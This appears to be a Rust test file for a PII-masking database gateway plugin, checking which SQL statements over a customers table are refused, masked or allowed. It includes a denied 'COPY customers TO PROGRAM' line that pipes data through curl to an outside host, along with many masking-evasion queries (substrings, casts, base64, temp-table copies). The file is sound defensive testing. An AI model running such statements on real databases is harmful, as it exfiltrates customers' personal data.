            "INSERT INTO scratch SELECT name, email FROM customers",
            "CREATE TABLE copy AS SELECT * FROM customers",
            "SELECT * INTO copy FROM customers",
            "UPDATE customers SET notes = name",
            "UPDATE customers SET notes = customers::text",
            "UPDATE customers SET notes = (SELECT ssn FROM customers LIMIT 1)",
            "UPDATE orders SET note = c.email FROM customers c WHERE c.id = orders.customer_id",
            "CREATE MATERIALIZED VIEW mv AS SELECT name FROM customers",
            "INSERT INTO scratch SELECT * FROM some_view",
            "WITH x AS (SELECT email FROM customers) INSERT INTO scratch SELECT * FROM x",
        ] {
            let m = denied(&mut h, &s, sql);
            assert!(m.contains("writes rows"), "{sql}: {m}");
        }
        let mut h = harness_with("trusted_relations = [\"staging.*\", \"public.products\"]");
        let s = h.session("alice", &[]);
        allowed(
            &mut h,
            &s,
            "INSERT INTO orders (product, price) SELECT name, price FROM public.products",
        );
        allowed(
            &mut h,
            &s,
            "INSERT INTO orders SELECT * FROM staging.orders",
        );
        denied(
            &mut h,
            &s,
            "INSERT INTO orders SELECT * FROM staging.orders JOIN customers USING (id)",
        );
    }

    #[test]
    fn changes_to_classified_tables_are_refused() {
        let mut h = harness();
        let s = h.session("alice", &[]);
        for sql in [
            "ALTER TABLE customers RENAME COLUMN name TO nickname",
            "ALTER TABLE public.customers RENAME TO people",
            "ALTER TABLE customers ADD COLUMN e2 text GENERATED ALWAYS AS (email || '') STORED",
            "ALTER TABLE customers SET SCHEMA archive",
            "CREATE UNIQUE INDEX ON customers (name)",
            "CREATE TRIGGER t AFTER UPDATE ON customers FOR EACH ROW EXECUTE FUNCTION f()",
            "ALTER SCHEMA public RENAME TO p2",
        ] {
            let m = denied(&mut h, &s, sql);
            assert!(
                ["holds classified data", "calls", "could not analyse"]
                    .iter()
                    .any(|w| m.contains(w)),
                "{sql}: {m}"
            );
        }
        // `*.*.ssn` may name a column of any table: every table counts as classified.
        denied(&mut h, &s, "ALTER TABLE scratch ADD COLUMN note text");
        allowed(&mut h, &s, "CREATE TABLE scratch (id int, note text)");
        allowed(&mut h, &s, "DROP TABLE scratch");
        // Without wildcard tables, other tables can change.
        let mut h = TestHarness::<MaskPii>::new(
            "[[class]]\nname = \"email\"\nlineage = [\"public.customers.email\"]\nstrategy = \"redact\"\n",
        )
        .unwrap();
        let s = h.session("alice", &[]);
        allowed(&mut h, &s, "ALTER TABLE orders ADD COLUMN note text");
        allowed(&mut h, &s, "CREATE INDEX ON orders (customer_id)");
        denied(&mut h, &s, "CREATE INDEX ON customers (email)");
    }

    #[test]
    fn copy_to_the_server_is_refused() {
        let mut h = harness();
        let s = h.session("alice", &[]);
        denied(
            &mut h,
            &s,
            "COPY customers TO PROGRAM 'curl -d @- https://example.com'",
        );
        denied(&mut h, &s, "COPY customers TO '/tmp/customers.csv'");
    }

    #[test]
    fn detect_mode_and_exempt_identities_are_never_refused() {
        let mut h = harness_with("on_uncertain = \"detect\"");
        let s = h.session("alice", &[]);
        allowed(&mut h, &s, "SELECT substr(email, 1, 5) FROM customers");
        allowed(&mut h, &s, "DO $$ BEGIN END $$");
        let mut h = harness();
        let lead = h.session("lead", &["support-lead"]);
        allowed(
            &mut h,
            &lead,
            "INSERT INTO scratch SELECT ssn::int FROM customers",
        );
    }

    #[test]
    fn extended_protocol_statements_are_checked_too() {
        let mut h = harness();
        let s = h.session("alice", &[]);
        let v = h.query_extended(&s, "SELECT left(email, $1) FROM customers");
        assert_eq!(v.sqlstate(), Some("42501"));
        assert!(h
            .query_extended(&s, "SELECT email FROM customers WHERE id = $1")
            .is_allow());
    }
}

#[test]
fn the_example_config_masks_the_demo_schema_as_documented() {
    let mut h = TestHarness::<MaskPii>::new(include_str!("../mask_pii.toml")).unwrap();
    let alice = h.session("alice", &["developers"]);
    let columns = [
        col(0, "name", TEXT, customers("name")),
        col(1, "email", TEXT, customers("email")),
        col(2, "phone", TEXT, customers("phone")),
        col(3, "ssn", TEXT, customers("ssn")),
        col(4, "card", TEXT, customers("card")),
    ];
    let arrays = || {
        vec![
            strings(&[Some("Ada Lovelace")]),
            strings(&[Some("ada@example.com")]),
            strings(&[Some("+1 415 555 0100")]),
            strings(&[Some("078-05-1120")]),
            strings(&[Some("4111 1111 1111 1111")]),
        ]
    };
    let out = run(&mut h, &alice, &columns, arrays());
    let row: Vec<Option<String>> = (0..5).map(|i| one(&out, i)).collect();
    // The values README-section.md shows.
    assert_eq!(
        row,
        [
            Some("[name]".to_owned()),
            Some("9d3c5cca624067c1".to_owned()),
            Some("+* *** *** 0100".to_owned()),
            Some("[redacted]".to_owned()),
            Some("**** **** **** 1111".to_owned()),
        ]
    );
    let billing = h.session("bill", &["billing"]);
    let out = run(&mut h, &billing, &columns, arrays());
    assert_eq!(one(&out, 4).as_deref(), Some("4111 1111 1111 1111"));
    assert_eq!(one(&out, 3).as_deref(), Some("[redacted]"));
    let lead = h.session("sam", &["support-lead"]);
    assert!(h.result_schema(&lead, &columns).is_empty());
    // row_to_json(c) mixes names (no detector) with other data: refused.
    let row = [col(
        0,
        "row_to_json",
        JSON,
        vec![inferred("public", "customers", "*")],
    )];
    h.result_schema(&alice, &row);
    let input = ipc(vec![(
        &row[0],
        strings(&[Some(r#"{"name":"Ada Lovelace"}"#)]),
    )]);
    assert!(matches!(h.batch(&alice, &input), BatchResult::Abort(d) if d.sqlstate == "42501"));
    // Reading orders into a new table is allowed (trusted), customers is not.
    assert!(h
        .query(&alice, "CREATE TABLE o2 AS SELECT * FROM public.orders")
        .is_allow());
    assert!(h
        .query(&alice, "CREATE TABLE c2 AS SELECT * FROM public.customers")
        .is_deny());
}

/// The statements of the end-to-end corpus (`tests/tests/mask_pii.rs`) as `on_query` sees
/// them with the example config: refused before they run, or allowed (to be masked, or
/// stopped by `on_batch` when a column mixes names with other data).
#[test]
fn the_end_to_end_corpus_is_judged_as_expected_before_it_runs() {
    let mut h = TestHarness::<MaskPii>::new(include_str!("../mask_pii.toml")).unwrap();
    let alice = h.session("alice", &["analysts"]);
    let allowed = [
        "SELECT * FROM customers ORDER BY id",
        "SELECT name AS n, email AS \"E\", ssn s, c.card AS \"card number\" FROM customers c",
        "SELECT email::text, ssn::varchar, phone::bpchar, card::character varying FROM customers",
        "SELECT lower(email), upper(name), email || '', ssn || ' ', initcap(name) FROM customers",
        "SELECT name || ' <' || email || '> ' || card FROM customers",
        "SELECT coalesce(phone, email), CASE WHEN id = 1 THEN ssn ELSE email END FROM customers",
        "SELECT format('%s / %s', name, card) FROM customers",
        "SELECT x, y FROM (SELECT email AS x, ssn AS y FROM customers) s",
        "SELECT (SELECT ssn FROM customers WHERE id = 1), (SELECT max(name) FROM customers)",
        "WITH c AS (SELECT name, ssn, card FROM customers) SELECT * FROM c",
        "SELECT email FROM customers UNION ALL SELECT notes FROM customers",
        "SELECT name FROM customers UNION SELECT 'nobody'",
        "SELECT string_agg(email, ','), string_agg(name, ';') FROM customers",
        "SELECT array_agg(ssn), array_agg(name ORDER BY id) FROM customers",
        "SELECT x FROM customers, unnest(ARRAY[email, ssn, phone]) x",
        "SELECT jsonb_build_object('e', email, 's', ssn, 'c', card) FROM customers",
        "SELECT json_agg(json_build_array(email, phone)) FROM customers",
        "SELECT notes || ' / ' || email || ' / ' || ssn FROM customers",
        "SELECT email, count(*) FROM customers GROUP BY email",
        "SELECT ssn, row_number() OVER (ORDER BY ssn) FROM customers",
        "SELECT * FROM customer_contacts",
        "SELECT * FROM customer_digest",
        "UPDATE customers SET notes = 'seen' WHERE id = 3 RETURNING name, email, ssn",
        "SELECT row_to_json(c) FROM customers c",
        "SELECT json_agg(c) FROM customers c",
        "SELECT c FROM customers c",
        "SELECT to_jsonb(c) ->> 'name' FROM customers c",
        "COPY customers TO STDOUT",
        "COPY (SELECT name, email, ssn FROM customers) TO STDOUT WITH (FORMAT csv, HEADER)",
        "COPY customers TO STDOUT (FORMAT binary)",
        "BEGIN; DECLARE k CURSOR FOR SELECT * FROM customers ORDER BY id; FETCH 1 FROM k; FETCH ALL FROM k; COMMIT",
        "BEGIN; DECLARE k BINARY CURSOR FOR SELECT name, email, ssn FROM customers; FETCH ALL FROM k; COMMIT",
        "PREPARE q AS SELECT name, email, ssn FROM customers; EXECUTE q; DEALLOCATE q",
        "SELECT a.email FROM customers a JOIN customers b ON a.email = b.email WHERE a.id = 1",
    ];
    for sql in allowed {
        let v = h.query(&alice, sql);
        assert!(v.is_allow(), "{sql}: {v:?}");
    }
    let refused = [
        "SELECT substr(ssn, 1, 7), substr(name, 1, 4), email FROM customers",
        "SELECT left(email, 5), split_part(email, '@', 1), email FROM customers",
        "SELECT encode(convert_to(name, 'UTF8'), 'base64'), name FROM customers",
        "SELECT replace(card, ' ', '') FROM customers",
        "SELECT email::varchar(5), name::char(4), email FROM customers",
        "SELECT ssn::int FROM customers",
        "SELECT (notes || email)::bytea::text, email FROM customers",
        "SELECT c::text::name, email FROM customers c",
        "SELECT name::regclass FROM customers",
        "SELECT histogram_bounds::text FROM pg_stats WHERE tablename = 'customers'",
        "DO $$ BEGIN RAISE NOTICE '%', (SELECT string_agg(name || ssn, ',') FROM customers); END $$",
        "CREATE TEMP TABLE stolen AS SELECT * FROM customers; SELECT * FROM stolen",
        "BEGIN; DECLARE k CURSOR FOR SELECT upper(name) || ssn FROM customers; FETCH ALL FROM k; COMMIT",
    ];
    for sql in refused {
        let v = h.query(&alice, sql);
        assert_eq!(v.sqlstate(), Some("42501"), "{sql}: {v:?}");
    }
    let sam = h.session("sam", &["support-lead"]);
    for sql in allowed.iter().chain(&refused) {
        assert!(h.query(&sam, sql).is_allow(), "{sql}");
    }
}

#[test]
fn values_that_are_not_text_and_mix_sources_become_null_rather_than_stop_the_result() {
    let mut h = harness();
    let s = h.session("alice", &[]);
    let columns = [
        col(0, "count", INT8, vec![inferred("public", "customers", "*")]),
        col(
            1,
            "mixed",
            INT4,
            vec![
                inferred("public", "customers", "name"),
                inferred("public", "customers", "id"),
            ],
        ),
        col(2, "id", INT4, vec![inferred("public", "customers", "id")]),
    ];
    let interest = h.result_schema(&s, &columns);
    assert_eq!(
        interest.read,
        [0, 1],
        "an unclassified integer is left alone"
    );
    let out = run(
        &mut h,
        &s,
        &columns,
        vec![
            Arc::new(Int64Array::from(vec![3])),
            Arc::new(Int32Array::from(vec![12])),
            Arc::new(Int32Array::from(vec![1])),
        ],
    );
    assert!(out.column(0).is_null(0) && out.column(1).is_null(0));
}

/// Generated statements, valid or not: the checks never panic and always answer with a
/// verdict the gateway accepts (the harness checks that).
#[test]
fn any_statement_text_gets_a_valid_verdict() {
    const PIECES: &[&str] = &[
        "SELECT ",
        "FROM ",
        "customers ",
        "c ",
        "email",
        "name",
        "ssn",
        ", ",
        "(",
        ")",
        "::",
        "int",
        "varchar(3)",
        "CAST(",
        " AS ",
        "text",
        "substr(",
        "lower(",
        "1",
        "'x'",
        "$1",
        "; ",
        "DECLARE k CURSOR FOR ",
        "PREPARE p AS ",
        "PREPARE p (int) AS ",
        "UPDATE customers SET ",
        "= ",
        "WHERE ",
        "INSERT INTO t ",
        "WITH x AS ",
        "UNION ",
        "\"Q\"",
        ".",
        "*",
        "[1]",
        "$$ x $$",
        "E'\\''",
        "-- c\n",
        "/* c */",
        "timestamp with time zone",
        "OVER (",
        "ON ",
        "CREATE INDEX ON ",
        "ALTER TABLE ",
        "COPY ",
        " TO STDOUT",
        "TABLE ",
        "RETURNING ",
    ];
    let mut h = harness();
    let s = h.session("alice", &[]);
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    for _ in 0..3000 {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        let mut r = seed;
        let mut sql = String::new();
        for _ in 0..(seed % 16) {
            r = r
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            sql.push_str(PIECES[(r >> 33) as usize % PIECES.len()]);
        }
        let _ = h.query(&s, &sql);
        let _ = h.query_extended(&s, &sql);
    }
}

/// A verdict made from the analysis alone is cacheable; one that had to read the statement's
/// raw text (calls, casts, cursors) is judged every time.
#[test]
fn verdicts_from_the_analysis_alone_are_cacheable() {
    let mut h = harness();
    let s = h.session("agent", &[]);
    h.query(&s, "SELECT email FROM public.customers WHERE id = 7");
    assert!(h.cacheable());
    for sql in [
        "SELECT lower(email) FROM public.customers",
        "SELECT email::varchar(3) FROM public.customers",
        "DECLARE c CURSOR FOR SELECT email FROM public.customers",
    ] {
        h.query(&s, sql);
        assert!(!h.cacheable(), "{sql}");
    }
}
